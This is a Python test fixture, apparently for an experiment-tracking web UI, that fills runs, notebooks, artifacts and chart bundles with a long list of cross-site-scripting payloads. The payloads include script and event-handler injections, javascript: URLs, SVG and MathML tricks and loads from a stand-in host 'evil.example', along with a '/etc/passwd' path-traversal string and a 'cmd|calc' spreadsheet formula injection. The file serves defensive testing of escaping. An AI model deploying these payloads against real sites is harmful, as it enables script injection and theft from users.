"""A store whose every name and output tries to run a script in the page of who looks at it."""

from __future__ import annotations

import json
from pathlib import Path

from .lab import Lab
from .stores import save_notebook
from .work import run_in, runs_of

ELSEWHERE = "https://evil.example"
"""A host that no request may reach."""
ACT = "window.hacked=(window.hacked||0)+1"
PAYLOADS = (
    f"<script>{ACT}</script>",
    f"<SCRIPT SRC={ELSEWHERE}/a.js></SCRIPT>",
    f"<img src=x onerror={ACT}>",
    f'<img src="x" onerror="{ACT}" alt="a picture">',
    f"<img src=`x`onerror={ACT}>",
    f"<img/src/onerror={ACT}>",
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{ACT}'><text x=20 y=20>a link</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{ACT}</script>'></iframe></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' "
    f"onerror='{ACT}'/></svg>#x\"/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}></style></mglyph></table></mtext></math>",
    f'<math><maction actiontype="statusline" xlink:href="javascript:{ACT}">a formula</maction></math>',
    f'<noscript><p title="</noscript><img src=x onerror={ACT}>"></noscript>',
    f'"><img src=x onerror={ACT}>',
    f"'><img src=x onerror={ACT}>",
    f"--><img src=x onerror={ACT}><!--",
    f"</title></textarea></style></script><img src=x onerror={ACT}>",
    f'" autofocus onfocus="{ACT}',
    f"' onmouseover='{ACT}",
    f"<body onload={ACT}>",
    f"<details open ontoggle={ACT}>more",
    f"<video><source onerror={ACT}></video>",
    f"<audio src=x onerror={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<select autofocus onfocus={ACT}>",
    f"<marquee onstart={ACT}>moving",
    f"<iframe src='javascript:parent.{ACT}'></iframe>",
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    f"<object data='data:text/html,<script>parent.{ACT}</script>'></object>",
    f"<embed src='javascript:{ACT}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ACT}'>",
    f"<base href='{ELSEWHERE}/'>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<style>@import '{ELSEWHERE}/b.css'; * {{ background: url({ELSEWHERE}/c.png) }}</style>",
    f"<form action='javascript:{ACT}'><button autofocus onfocus={ACT}>a button</button></form>",
    f'<a href="java\tscript:{ACT}" id=hacked>a link</a>',
    f'<a href="javascript&colon;{ACT}">a link</a>',
    f"[a link](javascript:{ACT})",
    f"![a picture](x'onerror='{ACT})",
    f"$\\href{{javascript:{ACT}}}{{a\\ formula}}$",
    f"$$\\unicode{{<img src=x onerror={ACT}>}}$$",
    f"{{{{constructor.constructor('{ACT}')()}}}}${{{ACT}}}",
    f"%3Cscript%3E{ACT}%3C/script%3E &lt;script&gt;{ACT}&lt;/script&gt;",
    "../../../../etc/passwd",
    f"=cmd|'/c calc'!A1;{ACT}",
    f"\u202e<img src=x onerror={ACT}>\u2066",
)

_PIPELINE = """
name: %s
steps:
  - notebook: step.ipynb
"""
_BY_HAND = """
import json, sys
from pathlib import Path

import trackbook

payloads = json.loads(sys.stdin.read())
for number in range(2):
    with trackbook.start_run(payloads[number], experiment=payloads[2], tags={p: p for p in payloads}) as run:
        run.log_params({payload: f"{number}{payload}" for payload in payloads})
        for payload in payloads:
            run.log_metric(payload, number)
            run.log_metric(payload, number + 1, step=1)
        for at, payload in enumerate(payloads[:12]):
            for ending in ("html", "svg", "md", "js"):
                path = Path(f"{at}.{ending}")
                path.write_text(payload)
                run.log_artifact(path, name=payload.replace("/", "\\u2215") + f".{ending}")
"""

_CELLS = (
    "import json\nfrom pathlib import Path\nimport pandas as pd, trackbook\nfrom IPython.display import display\n"
    "payloads = json.loads(Path('payloads.json').read_text())",
    "from sklearn.linear_model import LogisticRegression\n"
    "table = pd.DataFrame({payload: range(i, i + 40) for i, payload in enumerate(payloads)})\n"
    "table['words'] = (payloads * 2)[:40]\n"
    "for payload in payloads[:8]:\n"
    "    trackbook.publish(table, payload.replace('/', '\\u2215').replace('@', ''))",
    "# <script>window.hacked=1</script> <img src=x onerror=window.hacked=1>\n"
    "numbers = table[payloads]\nkind = (pd.Series(range(40)) % 2).map({0: payloads[0], 1: payloads[2]})\n"
    "chosen = '<img src=x onerror=window.hacked=1>'\n"
    "model = LogisticRegression(C=0.5).fit(numbers, kind)\nscore = model.score(numbers, kind)\n"
    "trackbook.log_param(payloads[0], chosen)",
    "for mime in ('text/html', 'text/markdown', 'text/latex', 'image/svg+xml', 'text/plain',\n"
    "             'application/javascript', 'application/json', 'application/geo+json', 'text/x-unknown'):\n"
    "    for payload in payloads:\n"
    "        content = {payload: payload} if mime.endswith('json') else payload\n"
    "        display({mime: content}, raw=True)\n"
    "score = model.score(numbers, kind)",
    "for bundle in json.loads(Path('bundles.json').read_text()):\n    display(bundle, raw=True)\n"
    "score = model.score(numbers, kind)",
    "import sys\nfor payload in payloads:\n    print(payload)\n    print('\\x1b[31m' + payload, file=sys.stderr)\n"
    "score = model.score(numbers, kind)",
    "class Bad(Exception):\n    pass\n\nscore = model.score(numbers, kind)\nraise Bad(payloads[2] + payloads[0])",
)


def _bundles() -> list[dict[str, object]]:
    """Return outputs of kinds that draw, with scripts and other hosts in them."""
    values = [{"a": 1, "link": f"javascript:{ACT}"}]
    vega: dict[str, object] = {
        "data": {"url": f"{ELSEWHERE}/data.json"},
        "mark": {"type": "point", "href": f"javascript:{ACT}", "tooltip": f"<img src=x onerror={ACT}>"},
        "title": f"<img src=x onerror={ACT}>",
    }
    inline = {
        "data": {"values": values},
        "transform": [{"calculate": f"constructor.constructor('{ACT}')()", "as": "b"}],
        "mark": {"type": "image", "width": 9, "height": 9},
        "encoding": {"url": {"value": f"{ELSEWHERE}/d.png"}, "href": {"field": "link"}},
    }
    pictured = f'<p>shown</p><img src="{ELSEWHERE}/e.png"><div style="background: url({ELSEWHERE}/f.png)">shown</div>'
    return [
        {"application/vnd.vegalite.v5+json": vega},
        {"application/vnd.vegalite.v5+json": inline},
        {"application/vnd.vega.v5+json": {"width": 9, "height": 9, "signals": [{"name": "a", "update": f"({ACT})"}]}},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "evil", "version_major": 2, "version_minor": 0}},
        {"application/vnd.jupyter.widget-state+json": {"state": {"evil": {"model_module": f"{ELSEWHERE}/w.js"}}}},
        {"application/vnd.plotly.v1+json": {"data": [], "layout": {"title": f"<img src=x onerror={ACT}>"}}},
        {"text/html": pictured},
        {"text/html": f"<button data-commandlinker-command='apputils:print' autofocus>press</button>{PAYLOADS[2]}"},
        {"text/markdown": f"![]({ELSEWHERE}/g.png) <img src='{ELSEWHERE}/h.png' srcset='{ELSEWHERE}/i.png 2x'>"},
        {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{ACT}'><script>{ACT}</script></svg>"},
        {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{ELSEWHERE}/j.png'/></svg>"},
    ]


def do_harm(lab: Lab, folder: Path) -> None:
    """Fill a store by the library and by papermill, and put the notebook `look.ipynb`, which has nothing, beside it."""
    folder.mkdir()
    save_notebook(folder / "look.ipynb", ["1"])
    save_notebook(folder / "hostile.ipynb", _CELLS)
    payloads = [payload for payload in PAYLOADS if payload.isprintable()]
    (folder / "payloads.json").write_text(json.dumps(payloads), encoding="utf-8")
    (folder / "bundles.json").write_text(json.dumps(_bundles()), encoding="utf-8")
    save_notebook(folder / "step.ipynb", ["raise ValueError('<img src=x onerror=window.hacked=1>')"])
    pipeline = _PIPELINE % json.dumps(PAYLOADS[3])
    (folder / "pipeline.yaml").write_text(pipeline, encoding="utf-8")
    run_in(lab, folder, "python", "-c", _BY_HAND, given=payloads)
    run_in(lab, folder, "trackbook", "pipeline", "run", code=1)
    for run in runs_of(lab, f"{folder.name}/look.ipynb"):
        note = json.dumps({"note": "\n".join(payloads)}).encode()
        lab.ask(f"runs/{run['run_id']}?at={folder.name}", method="PATCH", data=note)
    words = ("papermill", "--engine", "trackbook", "--no-progress-bar", "hostile.ipynb", "out.ipynb")
    run_in(lab, folder, *words, code=1)  # its last cell fails
